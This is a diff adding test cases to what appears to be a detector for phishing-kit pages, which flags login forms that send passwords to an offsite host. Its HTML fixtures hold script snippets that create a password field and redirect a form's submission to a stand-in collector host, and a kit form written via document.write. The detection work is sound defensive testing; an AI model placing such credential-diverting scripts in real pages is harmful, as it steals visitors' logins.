@@ -132,6 +132,20 @@ document.forms.login.setAttribute("action", "https://collector.example/p");</scr
     expect(found("p.html", html)).toEqual([["credential-form-offsite", 1]]);
   });
 
+  it("the password made in one script and the action set in another", () => {
+    const html = `<form action="/in"><input name="u"></form>
+<script>var p = document.createElement("input"); p.type = "password"; document.forms[0].appendChild(p);</script>
+<script>document.forms[0].action = "https://collector.example/p";</script>`;
+    expect(found("p.html", html)).toEqual([["credential-form-offsite", 3]]);
+  });
+
+  it("a show/hide toggle on a field the scan cannot name makes no form a password form", () => {
+    const html = `<form action="/in"><input type="password" id="pw"><button type="button" onclick="t(this)">Show</button></form>
+<form action="https://duckduckgo.com/"><input name="q"></form>
+<script>function t(b) { var f = b.previousElementSibling; f.type = f.type === "text" ? "password" : "text"; b.previousElementSibling.type = "password"; }</script>`;
+    expect(found("p.html", html)).toEqual([]);
+  });
+
   it("markup a script writes is a document: a kit's form in document.write", () => {
     const html = `<p>x</p>
 <script>document.write('<form action="https://collector.example/p">' + '<input type="password"></form>');</script>`;
